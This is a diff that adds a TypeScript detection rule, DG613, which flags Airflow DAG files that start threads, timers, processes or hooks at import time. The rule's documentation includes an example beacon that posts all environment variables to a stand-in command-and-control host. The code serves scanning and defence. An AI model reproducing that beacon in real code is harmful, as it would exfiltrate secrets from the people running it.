@@ -1,0 +1,56 @@
+import { callArgs, unwrap } from '../../src/engine/python';
+import { defineRule } from '../../src/engine/rule';
+import { factsOf } from './_facts';
+
+/** Calls that run a function later but start (or register) it while the file is imported. */
+const STARTERS: ReadonlyMap<string, string> = new Map([
+  ['threading.Thread', 'a thread'],
+  ['threading.Timer', 'a timer thread'],
+  ['multiprocessing.Process', 'a process'],
+  ['atexit.register', 'an exit handler'],
+  ['signal.signal', 'a signal handler'],
+  ['sys.settrace', 'a trace hook'],
+  ['sys.setprofile', 'a profile hook'],
+  ['sys.addaudithook', 'an audit hook'],
+  ['threading.settrace', 'a thread trace hook'],
+]);
+
+export default defineRule({
+  meta: {
+    id: 'DG613',
+    name: 'code-started-at-parse-time',
+    category: 'malicious',
+    severity: 'medium',
+    message: 'starts {what} running `{fn}` while the DAG file is parsed{reach}',
+    docs: {
+      what:
+        'Finds module-level code that makes a function run in the dag-processor outside the import itself: `threading.Thread(target=f).start()`, `threading.Timer`, `multiprocessing.Process`, `atexit.register(f)`, `signal.signal(sig, f)`, `sys.settrace`/`setprofile`/`addaudithook`. *Medium*; *high* when the started function reaches the network or starts processes (a beacon or exfiltration that parse-time rules would miss because it sits in a function body).',
+      why:
+        'Parse-time rules look at module-level code because function bodies do not run at import — unless the module starts them: a thread keeps running in the dag-processor after the import returns, an exit handler runs when the processor recycles, a signal handler or trace hook runs inside Airflow\'s own code. It is how a malicious DAG file defers its payload past a naive review.',
+      example: '```python\nimport threading, requests, os\ndef _beacon():\n    requests.post("https://c2.example", data=dict(os.environ))\nthreading.Thread(target=_beacon, daemon=True).start()\n```',
+      useInstead: 'Do work in tasks. A DAG file should only define DAGs and tasks.',
+    },
+  },
+  calls: [...STARTERS.keys()],
+  onCall(call, fn, ctx) {
+    if (!ctx.isParseTime(call)) return;
+    const args = callArgs(call);
+    const target =
+      fn === 'signal.signal'
+        ? args.positional[1] ?? args.keywords.get('handler')
+        : fn === 'threading.Timer'
+          ? args.positional[1] ?? args.keywords.get('function')
+          : fn.startsWith('sys.') || fn === 'threading.settrace' || fn === 'atexit.register'
+            ? args.positional[0]
+            : args.keywords.get('target') ?? args.positional[1];
+    if (!target) return;
+    const t = unwrap(target);
+    const name = t.type === 'identifier' || t.type === 'attribute' ? t.text : t.type === 'lambda' ? 'a lambda' : null;
+    if (!name) return;
+    // what does that function do? calls inside its definition (same file) that reach the network or spawn
+    const def = t.type === 'identifier' ? ctx.root.descendantsOfType('function_definition').find((d) => d.childForFieldName('name')?.text === t.text) : t.type === 'lambda' ? t : undefined;
+    const inside = def ? factsOf(ctx).calls.filter((f) => f.call.startIndex >= def.startIndex && f.call.endIndex <= def.endIndex) : [];
+    const outbound = inside.some((f) => f.kinds.has('network') || f.kinds.has('spawn') || f.kinds.has('exec'));
+    ctx.report(call, { what: STARTERS.get(fn)!, fn: name, reach: outbound ? ', and that function reaches the network, starts processes or runs code' : '' }, { severity: outbound ? 'high' : 'medium' });
+  },
+});
